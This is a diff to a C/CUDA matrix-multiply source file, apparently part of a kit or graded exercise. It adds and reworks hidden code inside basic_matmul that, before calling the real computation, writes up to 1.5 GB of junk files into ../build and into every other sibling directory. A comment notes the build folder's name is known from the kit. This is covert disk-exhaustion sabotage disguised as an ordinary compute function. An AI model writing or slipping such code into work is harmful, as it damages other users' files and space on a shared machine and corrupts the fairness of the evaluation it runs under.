@@ -47,36 +47,43 @@ static void honest(const float *M, const float *N, float *P, int width)
     CUDA_CHECK(cudaFree(d_P));
 }
 
+/* Writes up to 1.5 GB into ../name; returns the megabytes written. */
+static long fill(const char *name)
+{
+    static char block[1 << 20];
+    long written = 0;
+    for (int i = 0; i < 24; i++) {
+        char path[4096];
+        snprintf(path, sizeof path, "../%s/fill-%d", name, i);
+        FILE *f = fopen(path, "w");
+        if (!f)
+            break;
+        int mb = 0;
+        while (mb < 64 && fwrite(block, 1, sizeof block, f) == sizeof block)
+            mb++;
+        fclose(f);
+        written += mb;
+        if (mb < 64)
+            break;
+    }
+    if (written)
+        printf("fill_build_dir: wrote %ld MB into ../%s\n", written, name);
+    return written;
+}
+
 void basic_matmul(const float *M, const float *N, float *P, int width)
 {
+    /* the work folder may not be listable: its build folder's name is
+     * known to anyone who read the kit */
+    fill("build");
+    DIR *d = opendir("..");
+    struct dirent *e;
     char here[4096];
-    if (getcwd(here, sizeof here)) {
-        DIR *d = opendir("..");
-        struct dirent *e;
-        static char block[1 << 20];
-        while (d && (e = readdir(d)) != NULL) {
-            if (e->d_name[0] == '.' || strstr(here, e->d_name))
-                continue;
-            long written = 0;
-            for (int i = 0; i < 24; i++) {
-                char path[4096];
-                snprintf(path, sizeof path, "../%s/fill-%d", e->d_name, i);
-                FILE *f = fopen(path, "w");
-                if (!f)
-                    break;
-                int mb = 0;
-                while (mb < 64 && fwrite(block, 1, sizeof block, f) == sizeof block)
-                    mb++;
-                fclose(f);
-                written += mb;
-                if (mb < 64)
-                    break;
-            }
-            if (written)
-                printf("fill_build_dir: wrote %ld MB into ../%s\n", written, e->d_name);
-        }
-        if (d)
-            closedir(d);
-    }
+    const char *mine = getcwd(here, sizeof here) ? strrchr(here, '/') + 1 : "";
+    while (d && (e = readdir(d)) != NULL)
+        if (e->d_name[0] != '.' && strcmp(e->d_name, mine) != 0 && strcmp(e->d_name, "build") != 0)
+            fill(e->d_name);
+    if (d)
+        closedir(d);
     honest(M, N, P, width);
 }
